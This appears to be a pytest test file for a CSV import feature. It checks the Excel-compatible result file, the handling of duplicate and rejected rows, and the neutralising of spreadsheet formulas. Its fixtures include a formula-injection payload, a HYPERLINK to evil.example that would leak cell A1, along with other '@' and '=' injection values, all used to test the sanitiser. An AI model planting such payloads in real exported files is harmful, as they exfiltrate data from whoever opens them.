"""The result CSV: opens in Excel (BOM), one line per row, and never re-emits a formula."""

from __future__ import annotations

import csv
import io

import pytest

from companies.imports.cells import safe_cell, safe_text
from companies.imports.result import ResultLine, RowStatus, result_csv_bytes, result_for
from companies.imports.rows import LocationRow, parse_locations
from tests.companies.imports.files import csv_text

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _read(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", [EVIL, "+31 20 123", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1"])
def test_formula_text_gets_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Rahman Knitwear", "", "a=b", -23.5, 7, None])
def test_other_values_pass_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_negative_numbers_stay_numbers_in_text() -> None:
    assert safe_text(-23.5) == "-23.5"
    assert safe_text(None) == ""


def test_formula_cells_from_an_upload_are_neutralised_in_the_result_csv() -> None:
    rows = [["Name", "Address", "Country", "Tier"], [EVIL, "Road 1", "BD", "0"], ["@cmd", "=1+1", "BD", "1"]]
    _table, _columns, parsed = parse_locations(io.BytesIO(csv_text(rows).encode()))
    parsed_rows = list(parsed)
    lines = [
        result_for(row) or ResultLine(row.line, RowStatus.CREATED, getattr(row, "name", ""))
        for row in parsed_rows
    ]
    out = _read(result_csv_bytes(lines))
    assert out[0] == ["Line", "Status", "Name", "Reason"]
    assert out[1] == ["2", "Rejected", "'" + EVIL, "The tier “0” must be 1, 2 or 3 (or 3+)."]
    assert out[2] == ["3", "Created", "'@cmd", ""]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in out for cell in row)


def test_duplicates_and_rejections_have_their_result_lines() -> None:
    rows = [
        ["Name", "Address", "Country"],
        ["Mill", "Road 1", "BD"],
        ["MILL", "Road 1", "Bangladesh"],
        ["", "x", "BD"],
    ]
    _table, _columns, parsed = parse_locations(io.BytesIO(csv_text(rows).encode()))
    results = [result_for(row) for row in parsed]
    assert results[0] is None
    assert results[1] == ResultLine(3, RowStatus.DUPLICATE, "MILL", "The same location as line 2.")
    assert results[2] == ResultLine(4, RowStatus.REJECTED, "", "The name is empty.")


def test_every_status_is_written_with_its_label() -> None:
    lines = [ResultLine(n, status, "Mill") for n, status in enumerate(RowStatus, start=2)]
    out = _read(result_csv_bytes(lines))
    assert [row[1] for row in out[1:]] == ["Created", "Matched", "Updated", "Rejected", "Duplicate"]


def test_a_location_row_is_a_plain_dataclass() -> None:
    row = LocationRow(line=2, name="Mill", address="Road 1", country="BD")
    assert (row.tier, row.show_publicly, row.duplicate_of) == (None, False, None)
